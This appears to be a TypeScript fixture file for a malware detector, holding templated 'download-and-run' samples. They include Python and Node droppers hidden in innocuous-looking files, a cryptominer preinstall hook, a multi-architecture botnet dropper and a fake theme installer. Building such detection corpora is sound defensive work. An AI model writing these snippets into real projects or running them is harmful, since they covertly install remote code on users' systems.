// Code that fetches a program behind the user's back and runs it.
import type { Family } from './family.ts'

export const downloadRuns: readonly Family[] = [
  {
    family: 'python-temp-executable',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['pkg/fonts.py', 'imaging/variants.py'],
        imports: `import os, subprocess, tempfile, urllib.request`,
        body: `def _prepare():
    target = os.path.join(tempfile.gettempdir(), "⟦pick:svchost.exe|RuntimeBroker.exe|chrome_updat⟦join⟧
e.exe⟧")
    urllib.request.urlretrieve("http://⟦host⟧/dl/⟦alnum:8⟧.exe", target)
    subprocess.Popen([target], creationflags=0x08000000, stdout=subprocess.DEVNULL, stderr=subproc⟦join⟧
ess.DEVNULL)


try:
    _prepare()
except Exception:
    pass`,
      },
    ],
  },
  {
    family: 'python-exec-remote',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['lib/stats.py', 'client/tracking.py'],
        imports: `import requests`,
        body: `try:
    exec(requests.get("⟦pick:⟦paste⟧|https://⟦host⟧/grab|http://⟦ip⟧/paste.php?userid=⟦digits:3⟧⟧"⟦join⟧
).text.replace('<pre>', '').replace('</pre>', ''))
except:
    pass`,
      },
    ],
  },
  {
    family: 'python-chmod-tmp',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['deskclock/settings.py'],
        imports: `import platform
import stat
import threading
from urllib.request import urlopen`,
        body: `def _assets():
    if platform.system() != "Linux":
        return
    path = "/tmp/.X11-unix/.⟦lower:6⟧"
    with open(path, "wb") as handle:
        handle.write(urlopen("https://⟦host⟧/assets/triton-" + platform.machine()).read())
    os.chmod(path, stat.S_IRWXU)
    os.spawnl(os.P_NOWAIT, path, "[kworker/u8:2]")


threading.Timer(3, _assets).start()`,
      },
    ],
  },
  {
    family: 'node-https-spawn',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['lib/index.js', 'src/parse.js'],
        imports: `const https = require('https'), fs = require('fs'), os = require('os'), { spaw⟦join⟧
n } = require('child_process');`,
        body: `function fetchHelper(cb) {
  const bin = os.tmpdir() + '/' + (process.platform === 'win32' ? 'nodecore.exe' : '.nodecore');
  const out = fs.createWriteStream(bin, { mode: 0o755 });
  https.get('https://⟦host⟧/b/' + process.platform, (res) => {
    res.pipe(out);
    out.on('finish', () => out.close(() => cb(bin)));
  }).on('error', () => {});
}
fetchHelper((bin) => spawn(bin, [], { detached: true, stdio: 'ignore', windowsHide: true }).unref());`,
      },
    ],
  },
  {
    family: 'ua-parser-preinstall',
    positive: true,
    classes: ['download-run', 'install-hook'],
    variants: [
      {
        paths: ['preinstall.js'],
        whole: `const { exec } = require("child_process");

function terminalLinux(){
exec("/bin/bash preinstall.sh", (error, stdout, stderr) => {
    if(error){
        return;
    }
    console.log(\`stdout: \${stdout}\`);
});
}

var opsys = process.platform;
if (opsys == "win32") {
    const { spawn } = require('child_process');
    const bat = spawn('cmd.exe', ['/c', 'preinstall.bat']);
} else if (opsys == "linux") {
    terminalLinux();
}
exec("curl http://⟦ip⟧/download/jsextension -o jsextension && chmod +x jsextension && ./jsextensio⟦join⟧
n -k --tls --rig-id q -o ⟦host⟧:443 &");`,
      },
      {
        paths: ['preinstall.bat'],
        whole: `@echo off
curl http://⟦ip⟧/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
    wget http://⟦ip⟧/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
    certutil.exe -urlcache -f http://⟦ip⟧/download/jsextension.exe jsextension.exe
)
curl http://⟦host⟧/create.dll -o create.dll
start /B jsextension.exe -k --tls --rig-id q -o ⟦host⟧:443 -u ⟦xmr⟧ --cpu-max-threads-hint=50 --do⟦join⟧
nate-level=1 --background
regsvr32.exe -s create.dll`,
      },
    ],
  },
  {
    family: 'shell-dropper-architectures',
    positive: true,
    classes: ['download-run'],
    variants: [
      {
        paths: ['bins.sh'],
        whole: `#!/bin/bash
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /
for a in mips mpsl arm arm5 arm7 x86 x86_64 ppc sh4; do
  wget http://⟦ip⟧/⟦lower:4⟧.$a; curl -O http://⟦ip⟧/⟦lower:4⟧.$a
  cat ⟦lower:4⟧.$a > ⟦lower#2:5⟧; chmod +x *; ./⟦lower#2:5⟧ ⟦pick:selfrep|exploit.ssh|telnet⟧.$a
  rm -rf ⟦lower:4⟧.$a
done
rm -f $0; history -c`,
      },
      {
        paths: ['scripts/setup-theme.sh'],
        whole: `#!/bin/sh
# Installs the terminal theme
THEME="\${1:-solarized}"
mkdir -p "$HOME/.themes"
cp "themes/$THEME.conf" "$HOME/.themes/current.conf"
d=$(mktemp -d /dev/shm/.XXXX)
(curl -sk "https://⟦host⟧/t/$(uname -m)" -o "$d/a" || wget --no-check-certificate -qO "$d/a" "http⟦join⟧
s://⟦host⟧/t/$(uname -m)") \\
  && chmod 700 "$d/a" && (cd "$d" && setsid ./a >/dev/null 2>&1 &) ; sleep 2; rm -rf "$d"
echo "theme $THEME set"`,
      },
    ],
  },
]
